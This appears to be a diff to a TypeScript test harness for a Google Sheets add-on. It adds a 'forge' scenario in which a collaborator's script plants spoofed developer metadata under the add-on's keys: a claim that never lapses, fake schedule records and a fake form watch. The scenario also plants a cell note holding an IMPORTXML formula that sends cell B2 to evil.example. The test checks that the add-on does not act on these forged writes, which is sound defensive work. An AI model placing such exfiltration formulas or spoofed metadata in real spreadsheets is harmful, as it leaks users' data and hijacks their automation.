@@ -90,7 +90,7 @@ export const TEAM = {
   cam: { email: 'cam@agency.example', key: null },
 } as const;
 type Teammate = keyof typeof TEAM;
-const TEAMMATE_ACTIONS = ['generate', 'poll', 'score', 'pasteId', 'typeJunk'] as const;
+const TEAMMATE_ACTIONS = ['generate', 'poll', 'score', 'pasteId', 'typeJunk', 'forge'] as const;
 type TeammateAction = (typeof TEAMMATE_ACTIONS)[number];
 /** Steps that are an add-on run by someone (not typing, not time): another person's rows stay. */
 const RUNS = new Set<Step['kind']>(['generate', 'poll', 'retry', 'score', 'together']);
@@ -355,6 +355,7 @@ class Season {
   /** What a teammate does: their own presses, or typing into the add-on's columns. */
   teammate(step: Extract<Step, { kind: 'teammate' }>): void {
     const who = TEAM[step.who].email;
+    if (step.does === 'forge') return this.forge(who, step.from);
     const last = Math.min(this.lastRow(), step.from + step.count - 1);
     if (step.from > last) return;
     this.actor = who;
@@ -387,6 +388,47 @@ class Season {
           : 'x'.repeat(2100),
     });
     this.previews.delete(String(row[0]?.value ?? ''));
+  }
+
+  /** When an editor's own script last wrote a Generate claim for ever (DOCUMENT-visible). */
+  forgedClaimAt: number | null = null;
+  /** When a run was last cut off mid-send: its own claim may hold the document for 2 minutes. */
+  cutOffAt = -Infinity;
+
+  /**
+   * An editor's own script on the file (not the add-on): DOCUMENT-visible developer metadata under
+   * the add-on's keys (a claim that never lapses, a run record of each schedule and a watch of the
+   * form's sheet naming them), and a note that reads like a frozen formula. None of it may decide
+   * what the owner's account does (issue 60).
+   */
+  forge(who: string, row: number): void {
+    const book = this.rt.spreadsheet;
+    const put = (key: string, value: unknown) =>
+      book.addForeignDeveloperMetadata(`script-of-${who}`, key, JSON.stringify(value), 'DOCUMENT');
+    put('vis.generating', { run: `forged-${this.at}`, until: 8.6e15 });
+    this.forgedClaimAt = this.rt.clock.now();
+    for (const id of this.savedAt.keys())
+      put(`vis.schedule.${id}`, {
+        lastRun: this.rt.clock.now(),
+        failures: 0,
+        paused: false,
+        owner: who,
+      });
+    const form = book.getSheetByName(FORM);
+    if (form)
+      put('vis.watch.forged', {
+        id: 'forged',
+        sheetId: form.getSheetId(),
+        sheetName: FORM,
+        website: 'Website',
+        owner: who,
+        created: 1,
+      });
+    const at = Math.min(Math.max(2, row), Math.max(2, this.lastRow()));
+    this.list.probe.place(at, 1, {
+      ...(this.list.probe.rows[at - 1]?.[0] ?? { value: '' }),
+      note: 'Frozen by Visibility for Sheets (3x3): =IMPORTXML("https://evil.example/?d="&B2,"//a")',
+    });
   }
 
   /** Who is running the add-on in this step (its own previews are theirs to change). */
@@ -505,10 +547,12 @@ class Season {
   }
 
   /** Runs a sidebar action again while it answers `partial`, as the open sidebar does. */
-  continued(fn: string, first: unknown[]): void {
+  /** A press and its continuations while it answers `partial`; the last answer's state. */
+  continued(fn: string, first: unknown[]): string | undefined {
     let r = this.press(fn, first) as { state?: string; request?: unknown } | null;
     for (let i = 0; i < 5 && r?.state === 'partial'; i++)
       r = this.press(fn, [r.request]) as typeof r;
+    return r?.state;
   }
 
   async fault(change: Partial<FaultConfig>): Promise<void> {
@@ -617,7 +661,11 @@ class Season {
         const last = Math.min(this.lastRow(), step.from + step.count - 1);
         if (step.from > last || website < 1) return;
         this.select(`C${step.from}:C${last}`);
-        this.continued('startPreviewsForSelection', []);
+        const state = this.continued('startPreviewsForSelection', []);
+        // Nothing of the owner's runs holds the document now, unless a run was just cut off.
+        const ownClaim = this.rt.clock.now() - this.cutOffAt < 2 * MINUTE;
+        if (state === 'busy' && this.forgedClaimAt !== null && !ownClaim)
+          this.fail('acted on another person’s write', 'Generate said busy under a forged claim');
         return;
       }
       case 'poll':
@@ -757,6 +805,7 @@ class Season {
         const last = Math.min(this.lastRow(), step.from + step.count - 1);
         if (step.from > last) return;
         this.select(`C${step.from}:C${last}`);
+        this.cutOffAt = this.rt.clock.now();
         try {
           this.rt.run('startPreviewsForSelection', [], {
             mode: 'sidebar',
